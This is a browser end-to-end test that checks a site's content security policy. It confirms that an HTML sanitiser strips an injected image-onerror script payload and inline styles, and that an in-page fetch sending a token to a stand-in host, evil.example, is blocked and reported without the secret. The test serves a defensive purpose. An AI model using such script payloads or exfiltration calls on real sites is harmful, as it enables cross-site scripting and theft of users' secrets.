import { expect, test } from '#tests/support/journey.ts'

test('violations of the policy are reported without secrets, and what the sanitiser removes is not', async ({
  page,
  platform,
}) => {
  const content =
    '<p style="position:fixed">Words</p><img src="/x.png" onerror="alert(1)"><b title="a>b" style="top:0">Bold</b>'
  await platform.announce({ kind: 'help', title: 'Styled', content })
  await page.goto('/m/help?lang=EN')
  await page.getByRole('button', { name: 'Read here: Styled' }).click()
  await expect(page.getByText('Words', { exact: true })).toBeVisible()

  await page.evaluate(async () => {
    document.body.setAttribute('style', 'color: red')
    await fetch('https://evil.example/steal?token=secret').catch(() => undefined)
  })
  await expect.poll(() => platform.policyReports()).toHaveLength(2)
  expect(await platform.policyReports()).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ directive: 'style-src-attr', blocked: 'inline', route: '/m/help' }),
      expect.objectContaining({ directive: 'connect-src', blocked: 'https://evil.example' }),
    ]),
  )
})
